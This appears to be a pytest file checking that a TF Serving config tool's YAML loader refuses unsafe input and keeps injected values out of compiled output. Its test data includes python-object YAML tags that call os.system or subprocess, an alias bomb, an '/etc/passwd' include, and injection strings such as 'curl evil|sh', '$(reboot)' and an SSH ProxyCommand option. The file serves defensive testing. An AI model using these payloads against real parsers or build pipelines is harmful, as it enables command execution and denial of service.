"""The spec loader never executes YAML, and unsafe values never reach compiled artifacts.

Like copier's tests/test_config.py: hostile documents are loaded for real and the test
checks both the refusal (a diagnostic) and the absence of side effects (a marker file the
payload would have created, an output directory left untouched).
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from pathlib import Path

import pytest
import yaml

from tfsconf import api
from tfsconf.errors import SpecError
from tfsconf.spec.load import load_environment

GOOD: dict[str, object] = {
    "environment": "test",
    "tfserving_version": "2.18.0",
    "host_groups": {
        "main": {"hosts": [{"name": "host-1", "address": "10.0.0.1", "gpus": 1}]},
    },
    "servers": [{"name": "srv", "group": "main", "gpu": 0, "models": ["ctr"]}],
    "models": [
        {
            "name": "ctr",
            "base_path": "/srv/tfserving/models/ctr",
            "source": {"kind": "local", "path": "/mnt/models/ctr"},
        }
    ],
}

SPEC_TAIL = """\
tfserving_version: "2.18.0"
host_groups:
  main:
    hosts:
      - {name: host-1, address: 10.0.0.1, gpus: 1}
servers:
  - name: srv
    group: main
    gpu: 0
    models: [ctr]
models:
  - name: ctr
    base_path: /srv/tfserving/models/ctr
    source: {kind: local, path: /mnt/models/ctr}
"""


def _write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def _diagnostics(spec: Path) -> list[str]:
    with pytest.raises(SpecError) as raised:
        load_environment(spec)
    return [d.render() for d in raised.value.diagnostics]


# --- tags ---------------------------------------------------------------------------------

# Each would create the marker file if a constructor ran.
PYTHON_TAG_DOCUMENTS = {
    "apply_os_system": 'environment: !!python/object/apply:os.system ["touch {marker}"]\n',
    "apply_subprocess": (
        'environment: !!python/object/apply:subprocess.check_call [["touch", "{marker}"]]\n'
    ),
    "apply_open": 'environment: !!python/object/apply:builtins.open ["{marker}", "w"]\n',
    "new_mapping": (
        "environment: test\n"
        "image: !!python/object/new:subprocess.Popen {{args: [touch, '{marker}']}}\n"
    ),
    "nested_in_list": (
        'environment: test\nextra:\n  - !!python/object/apply:os.system ["touch {marker}"]\n'
    ),
    "as_mapping_key": (
        'environment: test\n? !!python/object/apply:os.system ["touch {marker}"]\n: value\n'
    ),
}


@pytest.mark.parametrize("document", PYTHON_TAG_DOCUMENTS.values(), ids=PYTHON_TAG_DOCUMENTS)
def test_python_tags_are_rejected_and_never_run(document: str, tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    spec = _write(tmp_path / "env.yaml", document.format(marker=marker))

    rendered = _diagnostics(spec)

    assert any(
        "tags are not allowed" in line or "mapping keys must be plain strings" in line
        for line in rendered
    ), rendered
    assert not marker.exists(), "a python tag was constructed"


def test_python_tag_is_reported_with_its_position(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    text = f'environment: !!python/object/apply:os.system ["touch {marker}"]\n' + SPEC_TAIL
    spec = _write(tmp_path / "env.yaml", text)

    with pytest.raises(SpecError) as raised:
        load_environment(spec)

    [diagnostic] = raised.value.diagnostics
    assert (diagnostic.line, diagnostic.column, diagnostic.path) == (1, 14, ("environment",))
    assert "tags are not allowed" in diagnostic.message
    assert not marker.exists()


@pytest.mark.parametrize(
    "value",
    ["!include /etc/passwd", "!!binary aGVsbG8=", "!!set {a, b}", "!env HOME"],
    ids=["custom_include", "binary", "set", "custom_env"],
)
def test_non_standard_tags_are_rejected(value: str, tmp_path: Path) -> None:
    spec = _write(tmp_path / "env.yaml", f"environment: {value}\n" + SPEC_TAIL)

    rendered = _diagnostics(spec)

    assert any(":1:14: error: environment: tags are not allowed" in r for r in rendered), rendered


# --- aliases and merge keys ---------------------------------------------------------------


def test_alias_bomb_is_rejected_by_size(tmp_path: Path) -> None:
    # 9 ** 9 (about 387 million) strings from a 1 KB document: "billion laughs".
    lines = ['l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"l{i}: &l{i} [{','.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 9)]
    spec = _write(tmp_path / "bomb.yaml", "\n".join(lines) + "\n")
    assert spec.stat().st_size < 1024

    with pytest.raises(SpecError) as raised:
        load_environment(spec)

    [diagnostic] = raised.value.diagnostics
    assert "alias bomb" in diagnostic.message
    assert diagnostic.path == ()


def test_merge_keys_are_rejected(tmp_path: Path) -> None:
    text = (
        "environment: test\n"
        'tfserving_version: "2.18.0"\n'
        "x-server: &server {group: main, gpu: 0}\n"
        "host_groups:\n"
        "  main:\n"
        "    hosts:\n"
        "      - {name: host-1, address: 10.0.0.1, gpus: 1}\n"
        "servers:\n"
        "  - name: srv\n"
        "    <<: *server\n"
        "    models: [ctr]\n"
        "models:\n"
        "  - name: ctr\n"
        "    base_path: /srv/tfserving/models/ctr\n"
        "    source: {kind: local, path: /mnt/models/ctr}\n"
    )
    spec = _write(tmp_path / "env.yaml", text)

    with pytest.raises(SpecError) as raised:
        load_environment(spec)

    merge = [d for d in raised.value.diagnostics if d.line == 10]
    assert merge, [d.render() for d in raised.value.diagnostics]
    assert all(d.severity == "error" and d.column == 5 for d in merge)
    assert any("<<" in d.render() for d in merge)


# --- injection never reaches compile output -----------------------------------------------


def _set(path: tuple[str | int, ...], value: object) -> Callable[[dict[str, object]], None]:
    def mutate(spec: dict[str, object]) -> None:
        node: object = spec
        for part in path[:-1]:
            node = node[part]  # type: ignore[index]
        node[path[-1]] = value  # type: ignore[index]

    return mutate


INJECTIONS: dict[str, tuple[str, Callable[[dict[str, object]], None]]] = {
    "model_name_newline": (
        "RUN touch /pwned",
        _set(("models", 0, "name"), "ctr\nRUN touch /pwned"),
    ),
    "server_model_newline": (
        "RUN touch /pwned",
        _set(("servers", 0, "models"), ["ctr\nRUN touch /pwned"]),
    ),
    "image_tag_semicolon": (
        "touch /pwned",
        lambda s: s.update(
            image={"registry": "registry.example.com/ml/tfserving", "tag": "2.18.0; touch /pwned"}
        ),
    ),
    "image_base_semicolon": (
        "curl evil",
        lambda s: s.update(image={"base_cpu": "tensorflow/serving:2.18.0;curl evil|sh"}),
    ),
    "extra_package_and_and": (
        "touch /pwned",
        lambda s: s.update(image={"extra_packages": ["curl=7.81.0 && touch /pwned"]}),
    ),
    "malloc_conf_substitution": (
        "$(reboot)",
        lambda s: s.update(
            image={"allocator": {"malloc_conf": "background_thread:true,$(reboot)"}}
        ),
    ),
    "host_address_option": (
        "ProxyCommand",
        _set(("host_groups", "main", "hosts", 0, "address"), "10.0.0.1 -oProxyCommand=evil"),
    ),
    "base_path_semicolon": (
        "touch /pwned",
        _set(("models", 0, "base_path"), "/srv/tfserving/models/ctr;touch /pwned"),
    ),
    "grpc_argument_extra_flag": (
        "--evil",
        _set(("servers", 0, "grpc_channel_arguments"), ["grpc.x=1 --evil=1"]),
    ),
}


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in root.rglob("*") if p.is_file()}


@pytest.mark.parametrize("case", INJECTIONS)
def test_injection_never_reaches_compile_output(case: str, tmp_path: Path) -> None:
    payload, mutate = INJECTIONS[case]
    out = tmp_path / "out"
    good = _write(tmp_path / "good.yaml", yaml.safe_dump(GOOD, sort_keys=False))
    api.compile_environment(good, out)
    before = _tree(out)
    assert before, "the good spec compiled to nothing"
    hostile = copy.deepcopy(GOOD)
    mutate(hostile)
    spec = _write(tmp_path / "hostile.yaml", yaml.safe_dump(hostile, sort_keys=False))

    with pytest.raises(SpecError):
        api.compile_environment(spec, out)

    after = _tree(out)
    assert after == before, "a refused compile changed the output directory"
    assert not any(payload.encode() in content for content in after.values())


@pytest.mark.parametrize(
    ("document", "message"),
    [
        ("environment: x\nhost_groups: &a\n  g: *a\n", "recursive alias"),
        ("environment: " + "[" * 900 + "]" * 900 + "\n", "nested deeper than"),
        ("environment: x\nimage: null\n", "null is not allowed"),
    ],
    ids=["recursive_alias", "deep_nesting", "explicit_null"],
)
def test_hostile_structure_is_a_diagnostic(tmp_path: Path, document: str, message: str) -> None:
    spec = _write(tmp_path / "hostile.yaml", document)
    assert any(message in line for line in _diagnostics(spec))
